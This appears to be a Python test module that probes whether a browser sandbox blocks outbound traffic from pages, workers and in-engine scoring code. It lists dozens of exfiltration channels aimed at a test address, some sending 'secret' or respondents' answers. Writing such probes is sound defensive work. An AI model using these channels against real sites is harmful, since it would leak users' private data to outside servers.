"""Every way out of a page and out of a worker that a browser has, tried on an address elsewhere.

What goes wrong with an attempt is what is wanted: the server elsewhere tells what came through.
"""

import json

FROM_PAGE = """async (address, base) => {
  const attempt = async (act) => { try { await act(); } catch {} };
  const add = (tag, attributes) =>
    document.body.append(Object.assign(document.createElement(tag), attributes));
  await attempt(() => fetch(address + 'fetch'));
  await attempt(() => fetch(address + 'no-cors', { mode: 'no-cors', method: 'POST', body: 'secret' }));
  await attempt(() => fetch(address + 'keepalive', { mode: 'no-cors', keepalive: true }));
  await attempt(() => navigator.sendBeacon(address + 'beacon', 'secret'));
  await attempt(() => new EventSource(address + 'events'));
  await attempt(() => new WebSocket(address.replace('http', 'ws') + 'socket'));
  await attempt(() => import(address + 'module.js'));
  await attempt(() => new Worker(address + 'worker.js'));
  await attempt(() => new SharedWorker(address + 'shared-worker.js'));
  await attempt(() => navigator.serviceWorker.register(base + 'assets/early.js'));
  await attempt(() => new FontFace('elsewhere', `url(${address}font.woff2)`).load());
  await attempt(() => new Promise((resolve) => {
    const request = new XMLHttpRequest();
    request.onloadend = resolve;
    request.open('GET', address + 'xhr');
    request.send();
  }));
  new Image().src = address + 'new-image.png';
  add('img', { src: address + 'image.png' });
  add('img', { srcset: `${address}image-set.png 1x` });
  add('iframe', { src: address + 'frame' });
  add('iframe', { srcdoc: `<img src="${address}image-in-frame.png">` });
  add('embed', { src: address + 'embed' });
  add('script', { src: address + 'script.js' });
  add('link', { rel: 'stylesheet', href: address + 'style.css' });
  add('link', { rel: 'prefetch', href: address + 'prefetch' });
  add('link', { rel: 'preload', as: 'image', href: address + 'preload.png' });
  add('link', { rel: 'modulepreload', href: address + 'module-preload.js' });
  add('link', { rel: 'icon', href: address + 'icon.png' });
  add('link', { rel: 'manifest', href: address + 'site.webmanifest' });
  add('object', { data: address + 'object' });
  add('video', { src: address + 'video.mp4', poster: address + 'poster.png' });
  add('a', { id: 'ping', href: '#main', ping: address + 'ping' });
  document.getElementById('ping').click();
  const style = document.createElement('div');
  style.style.background = `url(${address}background.png)`;
  document.body.append(style);
  for (const [method, target] of [['get', ''], ['post', ''], ['post', '_blank']]) {
    const form = Object.assign(document.createElement('form'), { action: address + 'form', method, target });
    document.body.append(form);
    await attempt(() => form.submit());
  }
  await new Promise((resolve) => setTimeout(resolve, 500));
}"""

# Each attempt by its name, with "refused" or "got out". A worker has no beacon, no image and no form.
FROM_WORKER = """async (address) => {
  const outcomes = {};
  const attempt = async (name, act) => {
    outcomes[name] = await Promise.resolve().then(act).then(() => 'got out', () => 'refused');
  };
  const opened = (channel) => new Promise((resolve, reject) => {
    channel.onopen = resolve;
    channel.onerror = reject;
  });
  await attempt('fetch', () => fetch(address + 'fetch'));
  await attempt('post', () => fetch(address + 'post', { mode: 'no-cors', method: 'POST', body: 'secret' }));
  await attempt('import', () => import(address + 'module.js'));
  await attempt('importScripts', () => importScripts(address + 'script.js'));
  await attempt('WebSocket', () => opened(new WebSocket(address.replace('http', 'ws') + 'socket')));
  await attempt('EventSource', () => opened(new EventSource(address + 'events')));
  await attempt('XMLHttpRequest', () => {
    const request = new XMLHttpRequest();
    request.open('POST', address + 'xhr', false);
    request.send('secret');
  });
  await attempt('Worker', () => new Promise((resolve, reject) => {
    const worker = new Worker(address + 'worker.js');
    worker.onmessage = resolve;
    worker.onerror = reject;
  }));
  if (navigator.sendBeacon?.(address + 'beacon', 'secret')) outcomes.beacon = 'got out';
  return outcomes;
}"""

# The same in a worker of its own, made as the site makes its workers.
FROM_BLOB_WORKER = f"""(address) => new Promise((resolve, reject) => {{
  const attempts = {FROM_WORKER};
  const source = `(${{attempts}})(${{JSON.stringify(address)}}).then(postMessage)`;
  const url = URL.createObjectURL(new Blob([source], {{ type: 'text/javascript' }}));
  const worker = new Worker(url, {{ type: 'module' }});
  worker.onmessage = (event) => resolve(event.data);
  worker.onerror = (event) => reject(new Error(event.message));
}})"""


def scoring_that_sends(address: str) -> bytes:
    """Scoring code, which runs in the engine's own worker, that tries to send answers to an address."""
    code = f"""
from questionnaire_core import Classification, Result
from js import WebSocket, XMLHttpRequest, fetch

def score(response, today):
    request = XMLHttpRequest.new()
    request.open("POST", "{address}answers", False)
    ways = [
        lambda: fetch("{address}answers?" + str(response.answer("team"))),
        lambda: WebSocket.new("{address.replace("http", "ws")}answers"),
        lambda: request.send("secret"),
    ]
    outcome = "It was refused"
    for way in ways:
        try:
            way()
        except Exception:
            continue
        # A promise and a socket tell only later how they fare: the server elsewhere knows.
        outcome = "It got out" if way is ways[-1] else outcome
    return Result(classification=Classification("attempt", outcome))
"""
    return json.dumps({"scoring.py": code}).encode()
